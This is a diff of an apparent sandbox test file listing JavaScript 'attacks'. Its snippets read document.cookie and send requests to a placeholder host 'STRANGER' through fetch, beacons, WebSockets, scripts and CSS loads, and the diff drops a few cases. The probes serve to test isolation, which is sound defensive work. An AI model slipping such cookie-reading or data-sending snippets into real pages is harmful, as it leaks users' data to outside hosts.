@@ -15,7 +15,6 @@ export const attacks: Record<string, string> = {
   'reading cookies': 'return document.cookie;',
   databases:
     'await new Promise((ok, no) => { const r = indexedDB.open("a"); r.onsuccess = ok; r.onerror = no; });',
-  caches: 'await caches.open("a");',
   'navigating the page': 'top.location.href = "STRANGER/top";',
   'navigating the page by a link':
     'const a = document.createElement("a"); a.href = "STRANGER/link"; a.target = "_top"; document.body.append(a); a.click(); throw 0;',
@@ -25,14 +24,10 @@ export const attacks: Record<string, string> = {
   'fetching from another host': 'await fetch("STRANGER/fetch");',
   'fetching from the site': 'await fetch("SITE/index.json");',
   'fetching without an answer': 'await fetch("STRANGER/no-cors", { mode: "no-cors" });',
-  'an old request':
-    'await new Promise((ok, no) => { const r = new XMLHttpRequest(); r.open("GET", "STRANGER/xhr"); r.onload = ok; r.onerror = no; r.send(); });',
   'a beacon':
     'if (!navigator.sendBeacon("STRANGER/beacon")) throw 0; await new Promise((_, no) => setTimeout(no, 100));',
   'a socket':
     'await new Promise((ok, no) => { const s = new WebSocket("STRANGER/socket".replace("http", "ws")); s.onopen = ok; s.onerror = no; });',
-  events:
-    'await new Promise((ok, no) => { const s = new EventSource("STRANGER/events"); s.onopen = ok; s.onerror = no; });',
   'a script of another host': 'await loaded("script", { src: "STRANGER/script.js" });',
   'a script of the site': 'await loaded("script", { src: "SITE/~workbench/frame.html" });',
   'a module of another host': 'await Function("return import(\'STRANGER/module.js\')")();',
@@ -75,8 +70,6 @@ export const attacks: Record<string, string> = {
   'a video': 'await loaded("video", { src: "STRANGER/video", poster: "STRANGER/poster" });',
   'style sheets':
     'const s = document.createElement("style"); s.textContent = "@import url(STRANGER/import); @font-face { font-family: f; src: url(STRANGER/face) } body { background: url(STRANGER/background); cursor: url(STRANGER/cursor), auto; font-family: f } body::before { content: url(STRANGER/content) }"; document.head.append(s); throw 0;',
-  'a request that outlives the page':
-    'await fetch("STRANGER/keepalive", { method: "POST", keepalive: true, body: "x" });',
   'a request for later':
     '(globalThis as any).fetchLater("STRANGER/later", { activateAfter: 0 }); throw 0;',
   'the ping of a link':
